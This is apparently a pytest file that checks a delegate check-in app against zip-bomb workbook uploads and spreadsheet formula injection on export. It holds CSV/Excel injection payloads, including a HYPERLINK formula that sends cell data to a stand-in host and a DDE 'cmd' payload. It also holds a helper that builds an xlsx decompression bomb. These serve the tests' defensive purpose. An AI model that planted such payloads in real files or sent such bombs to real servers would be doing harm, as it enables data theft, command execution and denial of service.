"""Spreadsheets from outside cannot stop the server; spreadsheets to outside cannot run formulas."""
from __future__ import annotations

import io
import time
import zipfile

import openpyxl
import psutil
from congress_checkin.domain.roster_import import parse_delegate_workbook, write_delegate_workbook

from tests.conftest import roster

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = {
    "delegation": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "position": "+1+cmd|' /C calc'!A0",
    "sending_unit": "-2+3",
    "ethnicity": "@SUM(1+1)",
}


def xlsx_bomb(expanded_mb: int) -> bytes:
    """A real workbook whose sheet XML inflates to ``expanded_mb`` MB (about 1 KB per MB once zipped)."""
    source = zipfile.ZipFile(io.BytesIO(write_delegate_workbook(roster(2))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(member, source.read(member))
        with bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = b'<row><c t="inlineStr"><is><t>' + b"A" * (1024 * 1024) + b"</t></is></c></row>"
            for _ in range(expanded_mb):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


async def test_a_200_mb_expanding_spreadsheet_is_refused_fast_without_growing_the_process(system, admin, congress):
    """Regression (issue 10, finding 2): a 200 KB zip bomb never got an answer and grew the process by hundreds of MB."""
    bomb = xlsx_bomb(200)
    assert len(bomb) < 1024 * 1024
    files = {"file": ("bom.xlsx", bomb, XLSX)}
    process = psutil.Process()
    rss_before = process.memory_info().rss
    started = time.monotonic()
    for path in ("/import/preview", "/import"):
        reply = await system.post(f"/api/congresses/{congress}/delegates{path}", files=files, headers=admin)
        assert reply.status_code == 422 and "giải nén ra quá lớn" in reply.json()["detail"], reply.text
    assert time.monotonic() - started < 5
    assert process.memory_info().rss - rss_before < 100 * 1024 * 1024


async def test_every_export_writes_text_and_neutralises_formulas(system, admin, congress):
    """Regression (issue 10, finding 6): a delegation starting with '=' was exported as a live formula."""
    body = {"full_name": "Nguyễn Thị Thủy", "kind": "official", "phone": "+84912345678", **HOSTILE}
    assert (await system.post(f"/api/congresses/{congress}/delegates", json=body, headers=admin)).status_code == 201
    for path in ("/delegates/export.xlsx", "/delegates/import/template"):
        reply = await system.get(f"/api/congresses/{congress}{path}", headers=admin)
        assert reply.status_code == 200
        _assert_inert(reply.content)
    exported = (await system.get(f"/api/congresses/{congress}/delegates/export.xlsx", headers=admin)).content
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).worksheets[0]
    values = {c.value for row in sheet.iter_rows() for c in row}
    assert {"'" + v for v in HOSTILE.values()} <= values and "'+84912345678" in values
    row = parse_delegate_workbook(exported).rows[0]  # a re-import reads the original text back
    assert (row.delegation, row.position, row.ethnicity, row.phone) == (
        HOSTILE["delegation"], HOSTILE["position"], HOSTILE["ethnicity"], "+84912345678")


def _assert_inert(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not str(cell.value).startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
